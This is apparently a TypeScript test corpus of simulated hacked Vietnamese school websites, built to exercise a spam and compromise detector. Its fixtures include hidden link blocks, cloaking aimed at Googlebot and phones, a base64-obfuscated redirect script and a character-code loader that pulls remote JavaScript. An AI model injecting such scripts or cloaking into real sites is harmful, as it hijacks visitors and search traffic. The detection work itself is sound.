import {
  atEnd,
  type CorpusSite,
  inHead,
  insertBefore,
  isFromGoogle,
  isGooglebot,
  isPhone,
  serve,
  site,
} from '../corpus-site.ts';
import { page, type Platform, schoolPages } from '../school-pages.ts';

/** A school site whose home page is changed. */
function changed(
  id: string,
  about: string,
  platform: Platform,
  change: (html: string) => string,
): CorpusSite {
  return site(
    'infected',
    id,
    about,
    schoolPages(platform, `Trường THCS ${id.slice(0, 4).toUpperCase()} Sông`, [], change),
  );
}

/** A school site with one page more, linked from its home page. */
function withPage(
  id: string,
  about: string,
  platform: Platform,
  path: string,
  title: string,
  main: string,
): CorpusSite {
  const school = 'Trường Tiểu học Bến Bính';
  return site('infected', id, about, {
    ...schoolPages(platform, school, [], (html) => atEnd(html, `<p><a href="${path}">Xem thêm</a></p>`)),
    [path]: page(platform, { school, title, main }),
  });
}

/** A school site whose home page is changed for some visitors. */
function forSome(
  id: string,
  about: string,
  isMeant: (request: Parameters<CorpusSite['respond']>[0]) => boolean,
  change: (html: string) => string,
): CorpusSite {
  const pages = schoolPages('nukeviet', 'Trường THPT Đồ Sơn Biển');
  return {
    id,
    label: 'infected',
    about,
    respond: serve({
      ...pages,
      '/': (request) => ({ body: isMeant(request) ? change(pages['/']) : pages['/'] }),
    }),
  };
}

const INNOCENT_LINKS = [
  'crystal-lamp-store.com',
  'oakwood-dental-care.net',
  'handbag-outlet-paris.com',
  'cheap-flights-rome.org',
]
  .map((host) => `<a href="https://www.${host}/">${host.split('-')[0] ?? ''}</a>`)
  .join(' ');

export const sites: readonly CorpusSite[] = [
  changed('hidden-shop-links', 'a hidden box with shop links that no word list knows', 'wordpress', (html) =>
    atEnd(html, `<div style="display:none">${INNOCENT_LINKS}</div>`),
  ),
  changed('overflow-hidden-links', 'a box of no height with foreign links', 'joomla', (html) =>
    atEnd(html, `<div style="height:0;overflow:hidden">${INNOCENT_LINKS}</div>`),
  ),
  changed(
    'text-indent-links',
    'a paragraph indented far to the left with foreign links',
    'hand-made',
    (html) => atEnd(html, `<p style="text-indent:-9999px">${INNOCENT_LINKS}</p>`),
  ),
  changed('marquee-links', 'a marquee of one pixel with foreign links', 'nukeviet', (html) =>
    atEnd(html, `<marquee height="1" width="1" scrollamount="3000">${INNOCENT_LINKS}</marquee>`),
  ),
  changed(
    'opacity-links',
    'a transparent block with betting words but harmless hosts',
    'dotnetnuke',
    (html) =>
      insertBefore(
        html,
        '</form>',
        '<div style="opacity:0;position:absolute">nhà cái uy tín <a href="https://abc-media.top/">tại đây</a></div>',
      ),
  ),
  changed(
    'brand-host-only',
    'a visible link with harmless words to a host that bears a brand',
    'wordpress',
    (html) =>
      html.replace(
        '<footer',
        '<p>Đơn vị đồng hành: <a href="https://jun88.marketing/">Công ty Hoa Sen</a></p><footer',
      ),
  ),
  changed(
    'digits-win-host',
    'a link to a host made of digits and “win” with harmless words',
    'nukeviet',
    (html) => atEnd(html, '<p>Tài trợ bởi <a href="https://79win.loan/">Quỹ khuyến học</a></p>'),
  ),
  changed(
    'sponsor-words',
    'a sponsor link to a harmless host with words of a betting house',
    'shared-portal',
    (html) => atEnd(html, '<div>Tài trợ: <a href="https://thuonghieu.blog/kubet">Nhà cái KUBET</a></div>'),
  ),
  changed('image-alt-only', 'a banner that speaks only by its alternative text', 'joomla', (html) =>
    atEnd(
      html,
      '<a href="https://track.adsvn.xyz/c/19"><img src="/images/b1.gif" alt="FUN88 - nhà cái uy tín số 1"></a>',
    ),
  ),
  changed(
    'unlinked-banners',
    'banners without links whose alternative texts advertise',
    'wordpress',
    (html) =>
      atEnd(
        html,
        '<div class="ads"><img src="https://i.imgcdn.top/a.gif" alt="Nổ hũ đổi thưởng uy tín"><img src="https://i.imgcdn.top/b.gif" alt="Tài xỉu online 789club"></div>',
      ),
  ),
  changed('spaced-letters', 'words with blanks between their letters', 'hand-made', (html) =>
    html.replace('</table>', '<tr><td>n h à c á i uy tín, t à i x ỉ u đổi thưởng, n ổ h ũ</td></tr></table>'),
  ),
  changed('homoglyph-title', 'Cyrillic letters in a betting title', 'wordpress', (html) =>
    html.replace('<title>', '<title>Nhà сái uу tín Fun88 | '),
  ),
  changed('math-letters', 'mathematical letters in a heading', 'nukeviet', (html) =>
    html.replace('<h2>Tin mới</h2>', '<h2>𝗡𝗵à 𝗰á𝗶 𝗙𝘂𝗻𝟴𝟴 uy tín</h2>'),
  ),
  changed('leet-text', 'digits and signs instead of letters', 'joomla', (html) =>
    atEnd(html, '<p>C4 cu0c b0ng da, nh4 c4i uy t1n, t4i x1u online</p>'),
  ),
  changed('og-only', 'only the Open Graph title was changed', 'wordpress', (html) =>
    inHead(html, '<meta property="og:title" content="W88 | Link vào W88 mới nhất không bị chặn">'),
  ),
  changed('english-casino-meta', 'only the description speaks English of casinos', 'joomla', (html) =>
    inHead(
      html,
      '<meta name="description" content="Best online casino real money slots and free spins no deposit bonus">',
    ),
  ),
  changed('turkish-title', 'a Turkish betting title', 'wordpress', (html) =>
    html.replace('<title>', '<title>Deneme Bonusu Veren Siteler - Güncel Giriş | '),
  ),
  changed('frame-cover', 'a fixed frame covers the page', 'nukeviet', (html) =>
    atEnd(
      html,
      '<iframe src="https://landing.promo-vn.top/" style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:9999;border:0"></iframe>',
    ),
  ),
  changed(
    'referrer-encoded',
    'a script looks at the referrer and takes the address from base64',
    'joomla',
    (html) =>
      atEnd(
        html,
        '<script>if(/google|bing|coccoc/i.test(document.referrer)){var u=atob("aHR0cHM6Ly9nby50cmFjay1hZHMudG9wL3ZuNzc=");window.location.replace(u);}</script>',
      ),
  ),
  changed(
    'packed-loader',
    'a script makes a script element with an address from character codes',
    'wordpress',
    (html) =>
      inHead(
        html,
        '<script>var s=document.createElement("script");s.src=String.fromCharCode(104,116,116,112,115,58,47,47,115,116,97,116,105,99,46,97,100,109,97,114,107,101,116,108,111,99,97,116,105,111,110,46,99,111,109,47,109,46,106,115);document.head.appendChild(s);</script>',
      ),
  ),
  changed(
    'telegram-handle',
    'a block that sends to the messenger of a betting house',
    'shared-portal',
    (html) =>
      atEnd(
        html,
        '<p>Hỗ trợ nạp rút 24/7, telegram: @fun88vn_cskh, nhận thưởng chào mừng thành viên mới</p>',
      ),
  ),
  changed('degree-paragraph', 'a paragraph of a maker of degrees without links', 'hand-made', (html) =>
    html.replace(
      '</table>',
      '<tr><td>Nhận làm bằng đại học phôi thật, bao công chứng, giao tận nơi. Zalo 0900.000.000</td></tr></table>',
    ),
  ),
  changed('loan-heading', 'a heading of a loan shark', 'nukeviet', (html) =>
    html.replace(
      '<h2>Tin mới</h2>',
      '<h3>Vay tiền nhanh online chỉ cần CCCD</h3><p>Giải ngân trong 5 phút, hỗ trợ nợ xấu, đăng ký ngay.</p><h2>Tin mới</h2>',
    ),
  ),
  changed('hacked-heading', 'an Indonesian mark of an attacker in the first heading', 'joomla', (html) =>
    html.replace('<h2>Tin mới</h2>', '<h1>Hacked By Mr.Kancil ~ Tulungagung Cyber Team</h1><h2>Tin mới</h2>'),
  ),
  changed('warning-beside-spam', 'a betting block beside an honest warning', 'wordpress', (html) =>
    atEnd(
      html,
      '<p>Nhà trường tuyên truyền phòng chống cờ bạc trong học sinh.</p><div>Nhà cái NEW88 – đăng ký ngay nhận thưởng, nạp rút nhanh, link vào NEW88 mới nhất, khuyến mãi nạp đầu 100%. <a href="https://new88s.vip">NEW88</a></div>',
    ),
  ),
  withPage(
    'doorway-article',
    'an article in school words that praises a betting house',
    'wordpress',
    '/tin-tuc/huong-dan-choi',
    'Hướng dẫn học sinh',
    '<h1>Hướng dẫn</h1><p>Nhà trường xin giới thiệu nhà cái SHBET với tỷ lệ kèo hấp dẫn. Quý phụ huynh tham gia ngay để nhận thưởng chào mừng, rút tiền trong 5 phút, link vào SHBET không bị chặn.</p>',
  ),
  withPage(
    'doorway-xsmb',
    'a page of lottery predictions',
    'nukeviet',
    '/du-doan',
    'Dự đoán XSMB hôm nay',
    '<h1>Soi cầu XSMB</h1><p>Bạch thủ lô hôm nay, dàn đề 36 số, soi cầu lô đề miền bắc, chốt số XSMB chính xác nhất.</p>',
  ),
  withPage(
    'doorway-cockfight',
    'a page of cock fights',
    'hand-made',
    '/trang-moi',
    'Trực tiếp đá gà Thomo hôm nay',
    '<h1>Đá gà trực tiếp</h1><p>Xem đá gà cựa dao Thomo, đặt cược online, nạp rút nhanh.</p>',
  ),
  withPage(
    'forum-post',
    'a thread of a forum with one casino post',
    'joomla',
    '/dien-dan/chu-de-12',
    'Diễn đàn học sinh',
    '<h1>Diễn đàn</h1><div class="post">Em hỏi về lịch thi ạ.</div><div class="post">I won at this online casino with free spins <a href="https://spin-palace.bid">best online casinos</a></div>',
  ),
  withPage(
    'comment-essay',
    'a comment of an essay mill',
    'wordpress',
    '/tin-tuc/bai-van',
    'Bài văn hay',
    '<article><h1>Bài văn hay</h1><p>Bài văn đạt giải của học sinh lớp 9.</p></article><ol class="commentlist"><li>Great post! <a href="https://essay-pro.click" rel="nofollow ugc">write my essay for me</a></li></ol>',
  ),
  forSome('google-links', 'visitors from Google get links in the footer', isFromGoogle, (html) =>
    atEnd(html, '<p><a href="https://hb88.asia">HB88</a> <a href="https://gk88.pro">GK88</a></p>'),
  ),
  forSome(
    'bot-japanese',
    'Googlebot gets a shop in Japanese',
    isGooglebot,
    () =>
      '<html lang="ja"><head><meta charset="utf-8"><title>ナイキ エアマックス 95 メンズ 新品 送料無料</title></head><body><h1>ナイキ エアマックス</h1><p>人気商品が激安価格で登場。送料無料でお届けします。</p></body></html>',
  ),
  forSome('bot-shop-links', 'Googlebot gets links to shops that no list knows', isGooglebot, (html) =>
    atEnd(html, `<div>${INNOCENT_LINKS}</div>`),
  ),
  forSome(
    'phone-script',
    'phones from Google get a script of a stranger that writes a frame',
    isPhone,
    (html) =>
      atEnd(
        html,
        '<script src="https://m.adnet-push.top/p.js"></script><iframe src="https://m.adnet-push.top/f" width="1" height="1"></iframe>',
      ),
  ),
  site('infected', 'upload-folder-pdf', 'PDF files of betting advice in the upload folder', {
    ...schoolPages('nukeviet', 'Trường THPT Cát Bà', [], (html) =>
      atEnd(
        html,
        '<div><a href="/uploads/files/nha-cai-uy-tin-2026.pdf">tài liệu</a> <a href="/uploads/files/tai-xiu-online.pdf">tài liệu</a></div>',
      ),
    ),
  }),
  site(
    'infected',
    'sitemap-slugs',
    'addresses with betting words in the sitemap that answer 404 to browsers',
    {
      ...schoolPages('wordpress', 'Trường THCS Lê Chân Sông'),
      '/sitemap.xml': {
        headers: { 'content-type': 'application/xml' },
        body: `<?xml version="1.0"?><urlset xmlns="http://www.sitemaps.org/schemas/sitemap/0.9">${['nha-cai-uy-tin', 'link-vao-fun88', 'tai-xiu-online-doi-thuong', 'keo-nha-cai-hom-nay'].map((slug) => `<url><loc>http://SELF/blog/${slug}</loc></url>`).join('')}</urlset>`,
      },
    },
  ),
];
